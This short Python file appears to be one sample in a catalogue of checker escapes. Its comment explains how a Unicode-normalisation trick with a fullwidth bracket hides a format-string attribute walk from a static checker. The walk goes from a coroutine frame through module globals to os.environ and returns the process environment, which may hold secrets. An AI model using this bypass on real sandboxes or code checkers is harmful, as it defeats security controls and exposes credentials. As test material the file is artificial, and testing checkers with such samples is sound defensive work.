# family: nfkc
# Escape: "﹇" (U+FE47, presentation form for vertical left square bracket) normalises to "[", so the checker's
# field walker skips everything up to the first real "]" (cr_frame, f_globals) and then sees only public names.
# Python treats "t﹇" as the keyword name and walks coroutine -> frame -> module globals -> os.environ.
import calendar


async def job():
    return calendar.isleap(2024)


def tool() -> str:
    coro = job()
    text = "{t﹇.cr_frame.f_globals[calendar].sys.modules[os].environ}".format(**{"t﹇": coro})
    coro.close()
    return text
